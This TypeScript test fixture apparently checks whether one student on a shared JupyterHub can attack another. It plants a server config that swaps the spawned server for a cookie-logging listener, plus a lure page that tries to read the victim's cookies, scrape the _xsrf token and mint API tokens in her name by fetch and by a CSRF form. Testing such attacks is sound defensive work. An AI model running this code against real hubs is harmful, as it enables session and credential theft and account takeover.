import fs from 'node:fs/promises'
import path from 'node:path'

/*
 * Bob's own server replaced by a page of his (issue 27): a student is a local user, and his
 * server runs as him with his ~/.jupyter/jupyter_server_config.py, which is Python he writes. The
 * file below makes the process the spawner started exec a plain HTTP listener on the same port
 * (same pid, so every check that the port's listener is the process the spawner started passes,
 * and the hub routes /user/BOB/ to it as to any server). It answers `api` as a Jupyter server
 * does, serves `attack` (the page below) and takes the page's findings at `report`; every
 * request's path, Host and Cookie header, and every report, go to ~/attack.log (one JSON a line).
 */

const LISTENER = String.raw`
import json, os, sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlparse

url = urlparse(os.environ["JUPYTERHUB_SERVICE_URL"])
prefix = os.environ.get("JUPYTERHUB_SERVICE_PREFIX", url.path)
log = os.path.join(os.path.expanduser("~"), "attack.log")
page = open(os.path.join(os.path.expanduser("~"), "attack.html"), "rb").read()


def note(entry):
    with open(log, "a") as f:
        f.write(json.dumps(entry) + "\n")


class Handler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def answer(self, status, kind, body):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Cache-Control", "no-store")
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        note({"request": self.path, "host": self.headers.get("Host"), "cookie": self.headers.get("Cookie", "")})
        rest = self.path.split("?")[0][len(prefix):] if self.path.startswith(prefix) else self.path
        if rest.rstrip("/") == "api":
            self.answer(200, "application/json", b'{"version": "2.17.0"}')
        elif rest == "attack":
            self.answer(200, "text/html; charset=utf-8", page)
        else:
            self.answer(200, "text/plain", b"bob's server")

    def do_POST(self):
        length = int(self.headers.get("Content-Length", "0"))
        body = self.rfile.read(length).decode("utf-8", "replace")
        note({"request": self.path, "host": self.headers.get("Host"), "cookie": self.headers.get("Cookie", "")})
        if self.path.split("?")[0].endswith("/report"):
            note({"report": json.loads(body)})
        self.answer(200, "text/plain", b"ok")


ThreadingHTTPServer(("127.0.0.1", url.port), Handler).serve_forever()
`

/** jupyter_server_config.py: replace this process (same pid) by the listener. */
const CONFIG = `import os, sys
os.execv(sys.executable, [sys.executable, "-I", "-c", ${JSON.stringify(LISTENER)}])
`

/**
 * The page bob asks alice to open (a link in a chat, a notebook he shares). It runs in alice's
 * browser at bob's server's address and tries, as her: to read her cookies (its own document's,
 * and those of the hub's page loaded in a frame), to read her identity from the hub's API, to find
 * the hub's _xsrf token and to make an API token in her name, by fetch and by a plain form. Query: `hub`, the hub's origin ('' for
 * the same origin), `victim`, her user name. It reports what it got to `report`, then sets its
 * title to "done".
 */
const PAGE = `<!doctype html>
<html><head><meta charset="utf-8"><title>bob's page</title></head><body><p>Look at my plot!</p>
<script>
(async () => {
  const params = new URLSearchParams(location.search)
  const hub = params.get('hub') || ''
  const victim = params.get('victim') || ''
  const report = {origin: location.origin, documentCookie: document.cookie}
  const call = async (url, init) => {
    try {
      const response = await fetch(url, {credentials: 'include', ...init})
      return {status: response.status, body: (await response.text()).slice(0, 4000)}
    } catch (error) {
      return {error: String(error)}
    }
  }
  report.apiUser = await call(hub + '/hub/api/user')
  const home = await call(hub + '/hub/home')
  report.hubHome = home.status ?? home.error
  const xsrf = (/xsrf_token:\\s*"([^"]+)"/.exec(home.body || '') || /name="_xsrf" value="([^"]+)"/.exec(home.body || '') || [])[1]
  report.xsrfFound = Boolean(xsrf)
  if (xsrf) report.apiUserWithXsrf = await call(hub + '/hub/api/user', {headers: {'X-XSRFToken': xsrf}})
  report.frameCookie = await new Promise((resolve) => {
    const frame = document.createElement('iframe')
    frame.src = hub + '/hub/home'
    frame.onload = () => {
      try {
        resolve(frame.contentDocument.cookie)
      } catch (error) {
        resolve('error: ' + error)
      }
    }
    setTimeout(() => resolve('error: no load'), 15000)
    document.body.appendChild(frame)
  })
  report.token = await call(hub + '/hub/api/users/' + encodeURIComponent(victim) + '/tokens', {
    method: 'POST',
    headers: {'Content-Type': 'application/json', ...(xsrf ? {'X-XSRFToken': xsrf} : {})},
    body: JSON.stringify({note: 'made by bob', expires_in: 600}),
  })
  // A plain HTML form, as a page of another site could send it: a POST (no preflight, no CORS), its
  // body JSON in text/plain, to the token API as alice; once with the _xsrf token in the query when
  // the page found one, once without. What the hub did is read from its side (the tokens it made).
  const submit = (note, withXsrf) => new Promise((resolve) => {
    const name = 'form-' + Math.random().toString(36).slice(2)
    const frame = document.createElement('iframe')
    frame.name = name
    document.body.appendChild(frame)
    const form = document.createElement('form')
    form.method = 'POST'
    form.enctype = 'text/plain'
    form.target = name
    form.action = hub + '/hub/api/users/' + encodeURIComponent(victim) + '/tokens' + (withXsrf ? '?_xsrf=' + encodeURIComponent(xsrf) : '')
    const field = document.createElement('input')
    field.name = '{"note": "' + note + '", "expires_in": 600, "x": "'
    field.value = '"}'
    form.appendChild(field)
    document.body.appendChild(form)
    frame.onload = () => resolve(true)
    setTimeout(() => resolve(false), 30000)
    form.submit()
  })
  report.formSent = [await submit('form by bob, without _xsrf', false)]
  if (xsrf) report.formSent.push(await submit('form by bob, with _xsrf', true))
  await fetch('report', {method: 'POST', body: JSON.stringify(report)})
  document.title = 'done'
})()
</script></body></html>
`

/** One line of ~/attack.log. */
export type AttackEntry =
  | {request: string; host: string; cookie: string}
  | {
      report: {
        origin: string
        documentCookie: string
        apiUser: Call
        apiUserWithXsrf?: Call
        hubHome: number | string
        xsrfFound: boolean
        frameCookie: string
        token: Call
        /** Whether each form's answer loaded in its frame (the hub's side says what it did). */
        formSent: boolean[]
      }
    }

export interface Call {
  status?: number
  body?: string
  error?: string
}

/** Put bob's server config and page in his home (owned by him, as he would write them). */
export async function plantAttack(home: string, uid: number): Promise<void> {
  const dir = path.join(home, '.jupyter')
  await fs.mkdir(dir, {recursive: true})
  await fs.writeFile(path.join(dir, 'jupyter_server_config.py'), CONFIG)
  await fs.writeFile(path.join(home, 'attack.html'), PAGE)
  await fs.writeFile(path.join(home, 'attack.log'), '')
  for (const file of [
    dir,
    path.join(dir, 'jupyter_server_config.py'),
    path.join(home, 'attack.html'),
    path.join(home, 'attack.log'),
  ])
    await fs.chown(file, uid, uid)
}

/** Everything bob's listener logged so far. */
export async function attackLog(home: string): Promise<AttackEntry[]> {
  const text = await fs.readFile(path.join(home, 'attack.log'), 'utf8').catch(() => '')
  return text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as AttackEntry)
}
